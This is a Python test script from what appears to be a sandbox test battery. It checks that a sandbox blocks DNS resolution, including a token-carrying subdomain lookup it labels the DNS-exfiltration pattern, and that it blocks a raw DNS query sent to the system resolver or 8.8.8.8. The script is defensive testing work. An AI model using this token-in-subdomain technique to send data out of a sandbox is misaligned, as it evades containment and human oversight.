#!/usr/bin/env python3
# id: N04
# tries: resolve names (a plain name and one carrying a token, the DNS-exfiltration pattern), and send a query to the resolver in /etc/resolv.conf directly
# expect: resolution fails (socket.gaierror); the direct query finds no route (ENETUNREACH), or, for a resolver on 127.0.0.x, only the sandbox's own loopback (ECONNREFUSED)
# neighbour: localhost resolves from /etc/hosts
# needs: -
# sandbox-args: -
#
# Runs inside `corral sandbox` (tests/sandbox/battery.py); by hand:
#   corral sandbox -- /usr/bin/python3 N04_dns.py [INFO.json]
import errno
import socket

from attacklib import INFO, attempt, blocked, escaped, main, udp_exchange

# A DNS query for example.com, type A.
QUERY = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
         b"\x07example\x03com\x00\x00\x01\x00\x01")


def attack():
    token = INFO.get("token", "manual")
    for name in ("example.com", "corral-battery-%s.example.com" % token):
        try:
            socket.getaddrinfo(name, 443)
            escaped.append("resolved %s" % name)
        except socket.gaierror as e:
            blocked.append("resolve %s: %s" % (name, e.args[1] if len(e.args) > 1 else e))
    ns = "8.8.8.8"
    try:
        for line in open("/etc/resolv.conf"):
            if line.startswith("nameserver"):
                ns = line.split()[1]
                break
    except OSError:
        pass
    family = socket.AF_INET6 if ":" in ns else socket.AF_INET
    attempt("query %s" % ns, lambda: udp_exchange(family, (ns, 53), QUERY), errno.ENETUNREACH, errno.ECONNREFUSED)


def neighbour():
    try:
        hosts = open("/etc/hosts").read().split()
    except OSError:
        hosts = []
    if "localhost" not in hosts:
        # Nothing to resolve it from on this host: not the sandbox's doing.
        print("NOTE /etc/hosts has no localhost line; neighbour check skipped")
        return None
    addrs = {a[4][0] for a in socket.getaddrinfo("localhost", 80)}
    return None if addrs & {"127.0.0.1", "::1"} else "localhost resolved to %s" % addrs


if __name__ == "__main__":
    main(attack, neighbour)
